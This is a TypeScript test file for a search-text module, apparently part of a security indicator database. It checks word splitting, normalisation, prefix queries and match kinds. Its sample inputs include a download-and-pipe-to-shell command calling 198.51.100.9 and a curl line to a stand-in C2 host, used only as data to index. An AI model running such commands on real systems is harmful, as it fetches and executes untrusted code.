import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { matchOf, MAX_QUERY, normOf, prepareQuery, termsOf, wordsOf } from '../../src/db/search-text.js';

describe('search text: what is stored and what a query looks for', () => {
  it('splits values into lowercase words of letters and digits, whatever the punctuation', () => {
    assert.deepEqual(wordsOf('Evil.Example.COM'), ['evil', 'example', 'com']);
    assert.deepEqual(wordsOf('/bin/sh -c "curl http://198.51.100.9:8080/x|sh"'), ['bin', 'sh', 'c', 'curl', 'http', '198', '51', '100', '9', '8080', 'x', 'sh']);
    assert.deepEqual(wordsOf('Global\\Mütex_1'), ['global', 'mütex', '1']);
    assert.deepEqual(wordsOf('--- ...'), []);
    assert.equal(termsOf(['C2.example.test', 'www.example.test']), 'c2 example test www', 'a field\'s document: each word once');
  });

  it('cuts overlong words and keeps the first 400 words of a value', () => {
    assert.equal(wordsOf('a'.repeat(500))[0]!.length, 200);
    assert.equal(wordsOf(Array.from({ length: 1000 }, (_, index) => `w${index}`).join(' ')).length, 400);
  });

  it('compares lowercase values cut to the longest query', () => {
    assert.equal(normOf('ABC.Exe'), 'abc.exe');
    assert.equal(normOf('x'.repeat(2000)).length, MAX_QUERY);
  });

  it('matches prefixes only from three characters on, so a letter does not match half the index', () => {
    const short = prepareQuery(' Ab ');
    assert.equal(short.norm, 'ab');
    assert.equal(short.upper, undefined);
    assert.deepEqual(short.words, ['ab']);
    assert.equal(short.lastIsPrefix, false);

    const domain = prepareQuery('Example.co');
    assert.equal(domain.norm, 'example.co');
    // The databases compare UTF-8 bytes (SQLite's BINARY, PostgreSQL's "C"), not UTF-16 units as JS does.
    const bytes = (text: string) => Buffer.from(text, 'utf8');
    const below = (a: string, b: string) => Buffer.compare(bytes(a), bytes(b)) < 0;
    for (const inside of ['example.co', 'example.com', 'example.co\u{FFFF}', 'example.co\u{10FFFE}']) assert.ok(below(inside, domain.upper!), inside);
    assert.ok(below(domain.upper!, 'example.cp'));
    assert.deepEqual(domain.words, ['example', 'co']);
    assert.equal(domain.lastIsPrefix, false, 'the last word has two characters');
    assert.equal(prepareQuery('example.com').lastIsPrefix, true);
  });

  it('says how a value matches a query: whole, by its start, by all its words or some of them', () => {
    const query = prepareQuery('c2.example.test');
    assert.equal(matchOf('C2.Example.Test', query), 'exact');
    assert.equal(matchOf('c2.example.test.evil.example', query), 'prefix');
    assert.equal(matchOf('curl http://c2.example.testing/x', query), 'words', 'the last word as a prefix');
    assert.equal(matchOf('www.example.test', query), 'some-words');
    assert.equal(matchOf('unrelated', query), undefined);
    assert.equal(matchOf('abc', prepareQuery('ab')), undefined, 'no prefix of two characters');
    assert.equal(matchOf('x ab y', prepareQuery('ab')), 'words', 'but the word itself');
  });
});
